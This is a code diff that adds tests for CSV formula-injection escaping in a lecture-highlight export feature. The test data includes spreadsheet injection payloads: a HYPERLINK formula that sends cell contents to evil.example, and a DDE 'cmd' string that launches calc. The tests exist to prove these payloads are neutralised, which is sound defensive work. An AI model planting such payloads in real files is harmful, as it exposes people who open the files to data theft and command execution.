@@ -115,10 +115,45 @@ def test_csv_reads_back_with_the_same_values(library, lecture, tmp_path):
         assert float(row["end"]) == highlight.end_ms / 1000
         assert int(row["color"]) == highlight.color
         assert row["tags"].split("; ") == list(highlight.tags)
-        assert row["note"] == (highlight.note or "")
+        # A cell that a spreadsheet would take for a formula starts with "'" (the "- dash note").
+        assert row["note"] == exports.csv_text(highlight.note or "")
         assert row["text"] == highlight.text and row["media"] == highlight.media_path
     assert rows[0]["start_clock"] == "0:00" and rows[3]["start_clock"] == "0:10"
     assert rows[0]["note"] == HOSTILE_NOTE  # multi-line, quotes and all
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)", "\tindented=1", "\rcarriage=1"]
+
+
+def test_csv_cells_that_start_a_formula_are_text(library, tone_mp3, tmp_path):
+    lecture = library.import_lecture(tone_mp3, Transcript([Segment(0, 2000, "=1+1 said the lecturer")]))
+    for index, formula in enumerate(FORMULAS):
+        library.add_highlight(lecture.id, index * 10 + 10, 1000, 1, [formula.strip()], formula)
+    library.add_highlight(lecture.id, 100, 1500, 2, ["plain"], "a = b + c, not a formula")
+    study = collect(library, lecture.id)
+    raw = export(study, "csv").decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
+    notes = [row["note"] for row in rows]
+    assert notes == ["'" + formula for formula in FORMULAS] + ["a = b + c, not a formula"]
+    assert all(row["text"] == "'=1+1 said the lecturer" for row in rows)
+    assert [row["tags"] for row in rows][:4] == ["'" + f.strip() for f in FORMULAS[:4]]
+    # Every text cell is quoted (OWASP): read back as QUOTE_NONNUMERIC, an unquoted cell
+    # would become a number; the text columns are all strings, the numbers numbers.
+    typed = list(csv.reader(io.StringIO(raw, newline=""), quoting=csv.QUOTE_NONNUMERIC))[1:]
+    text_columns = [CSV_COLUMNS.index(c) for c in ("start_clock", "tags", "note", "text", "media")]
+    assert all(isinstance(row[i], str) for row in typed for i in text_columns)
+    assert all(isinstance(row[CSV_COLUMNS.index("start")], float) for row in typed)
+    assert '"\'=HYPERLINK(' in raw
+
+
+def test_json_keeps_formula_looking_text_exactly(library, tone_mp3):
+    lecture = library.import_lecture(tone_mp3, Transcript([Segment(0, 2000, "=1+1 said the lecturer")]))
+    for index, formula in enumerate(FORMULAS):
+        library.add_highlight(lecture.id, index * 10 + 10, 1000, 1, [], formula)
+    objects = json.loads(export(collect(library, lecture.id), "json"))
+    assert [item["note"] for item in objects] == FORMULAS
+    assert {item["text"] for item in objects} == {"=1+1 said the lecturer"}
 
 
 def test_json_reads_back_with_the_same_values(library, lecture, tmp_path):
